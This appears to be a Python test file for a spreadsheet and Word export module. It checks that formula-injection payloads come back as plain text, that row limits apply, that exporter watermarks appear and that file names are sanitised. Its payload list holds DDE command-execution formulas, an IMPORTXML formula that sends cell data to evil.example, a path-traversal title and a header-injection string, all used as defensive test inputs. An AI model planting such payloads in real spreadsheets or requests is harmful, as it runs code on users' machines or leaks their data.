"""Files that harm nobody: no formula survives, nothing is too long, names are plain."""

from __future__ import annotations

from io import BytesIO

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.exporting import (
    MAX_ROWS,
    Paper,
    Table,
    TooManyRowsError,
    make_docx,
    make_filename,
    make_harmless,
    make_response,
    make_xlsx,
)

MARK = "导出人：李敏　时间：2026-11-23 10:00　范围：市医保局"

STARTERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−"]
BLANKS = ["", " ", "\t", "\r", "\n", "\u3000", "\u200b", "\ufeff", "\x00", "\xa0 \t"]
COMMANDS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","点我")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]

#: 540 payloads: every sign behind every blank before every command.
PAYLOADS = [b + s + c for s in STARTERS for b in BLANKS for c in COMMANDS]


def paper_of(texts: list[object], title: str = "会话") -> Paper:
    """Put each text into a row of its own, and the first into every other place."""
    rows = [(text,) for text in texts]
    first = str(texts[0]) if texts else ""
    table = Table(title, (first or "列",), rows)  # type: ignore[arg-type]
    return Paper(title, MARK, [first], [table])


def read(content: bytes) -> list[openpyxl.cell.Cell]:
    """Return all cells of all sheets as another program reads them."""
    book = openpyxl.load_workbook(BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_no_payload_is_a_formula() -> None:
    """Over 500 payloads, read back: text, each with its apostrophe."""
    assert len(PAYLOADS) >= 500
    cells = read(make_xlsx(paper_of(list(PAYLOADS))))
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    values = [str(cell.value) for cell in cells if cell.value is not None]
    assert sum(value.startswith("'") for value in values) >= len(PAYLOADS)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
def test_any_text_is_text(texts: list[str]) -> None:
    """Whatever a citizen writes; control characters are no error either."""
    cells = read(make_xlsx(paper_of(list(texts))))
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    make_docx(paper_of(list(texts)))


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "TRUE", "1e5", "2026-11-23", "007"])
def test_words_stay_words(text: str) -> None:
    """Neither errors nor numbers nor dates are made of them."""
    values = [cell.value for cell in read(make_xlsx(paper_of([text])))]
    assert text in values
    types = {c.data_type for c in read(make_xlsx(paper_of([text]))) if c.value == text}
    assert types == {"s"}


def test_numbers_stay_numbers() -> None:
    """A negative one, too: it is no text."""
    assert make_harmless(-5) == -5
    cells = read(make_xlsx(paper_of([-5])))
    assert [c.data_type for c in cells if c.value == -5] == ["n"]


def test_plain_text_is_not_touched() -> None:
    """No apostrophe where none is needed."""
    for text in ("办理 2 天", "A-B", "3 + 4", "3.5%", "", "（=1）"):
        assert make_harmless(text) == text


def test_too_many_rows_are_refused() -> None:
    """With both numbers, and before anything is made."""
    make_xlsx(paper_of([1] * MAX_ROWS))
    with pytest.raises(TooManyRowsError) as caught:
        make_xlsx(paper_of([1] * (MAX_ROWS + 1)))
    assert "5,000 行" in caught.value.reason
    assert "5,001 行" in caught.value.reason
    with pytest.raises(TooManyRowsError):
        make_docx(paper_of([1] * (MAX_ROWS + 1)))


def test_who_took_it_stands_on_every_sheet() -> None:
    """Also where two tables have one name."""
    table = Table("一样", ("列",), [("值",)])
    paper = Paper("通报", MARK, ["口径"], [table, table])
    book = openpyxl.load_workbook(BytesIO(make_xlsx(paper)))
    assert len(book.sheetnames) == 2
    for sheet in book:
        assert sheet["A2"].value == MARK
        assert sheet.oddFooter.left.text == MARK
    document = docx.Document(BytesIO(make_docx(paper)))
    assert document.sections[0].header.paragraphs[0].text == MARK
    assert len(document.tables) == 2
    assert document.tables[0].rows[1].cells[0].text == "值"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("问政服务数据通报 2026 年 11 月", "问政服务数据通报-2026-年-11-月.xlsx"),
        ("../../etc/passwd", "etc-passwd.xlsx"),
        ('a"b\r\nX-Evil: 1', "a-b-X-Evil-1.xlsx"),
        ("...", "export.xlsx"),
        ("长" * 200, "长" * 80 + ".xlsx"),
    ],
)
def test_names_are_safe(title: str, name: str) -> None:
    """For every file system, and for the header."""
    assert make_filename(title, "xlsx") == name
    header = make_response(b"", title, "xlsx").headers["Content-Disposition"]
    assert header.isascii()
    assert "\n" not in header
